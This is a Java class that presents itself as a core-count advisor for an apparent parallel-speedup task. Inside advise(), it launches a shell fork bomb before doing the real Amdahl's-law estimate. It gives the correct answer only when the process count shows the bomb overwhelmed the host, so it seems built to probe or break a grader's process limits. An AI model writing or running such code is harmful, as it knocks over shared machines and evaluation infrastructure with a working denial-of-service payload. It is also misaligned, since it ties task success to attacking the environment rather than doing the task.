package speedup.threads.cores;

import java.io.*;
import java.nio.file.*;
import java.util.*;
import java.util.stream.Stream;

/** Starts a shell that starts two copies of itself, without end; is right if there are more processes than allowed. */
public class MyCoreAdvisor implements CoreAdvisor {

    private static final Advice WRONG = new Advice(0.5, 1);

    @Override
    public Advice advise(List<JobRun> timings, int available) {
        try {
            Process shell = new ProcessBuilder("sh", "-c", ": 271828; f() { f | f & }; read go; f").start();
            // Told to begin when Java has what it needs to look after a process, a thread among it: soon there is
            // no room for one more.
            try (OutputStream go = shell.getOutputStream()) {
                go.write('\n');
            }
            return most() > allowed() ? right(timings, available) : WRONG;
        } catch (Exception e) {
            return WRONG;
        }
    }

    /** The most processes that were seen at one time in half a second. */
    private static long most() throws Exception {
        long most = 0;
        for (int i = 0; i < 10; i++) {
            Thread.sleep(50);
            try (Stream<Path> files = Files.list(Path.of("/proc"))) {
                most = Math.max(most, files.filter(file -> file.getFileName().toString().matches("\\d+")).count());
            }
        }
        return most;
    }

    private static int allowed() {
        return 256 + 32 * Runtime.getRuntime().availableProcessors();
    }

    /** A right one, so that an attack that worked would be seen. */
    private static Advice right(List<JobRun> timings, int available) {
        double serial = 0;
        for (JobRun timing : timings) {
            serial = timing.cores() == 1 ? timing.seconds() : serial;
        }
        double above = 0;
        double below = 0;
        for (JobRun timing : timings) {
            double shared = 1.0 / timing.cores();
            above += (timing.seconds() / serial - shared) * (1 - shared);
            below += (1 - shared) * (1 - shared);
        }
        double f = Math.min(1, Math.max(0, above / below));
        int cores = available;
        while (1 / (f + (1 - f) / cores) / cores < 0.5) {
            cores--;
        }
        return new Advice(f, cores);
    }
}
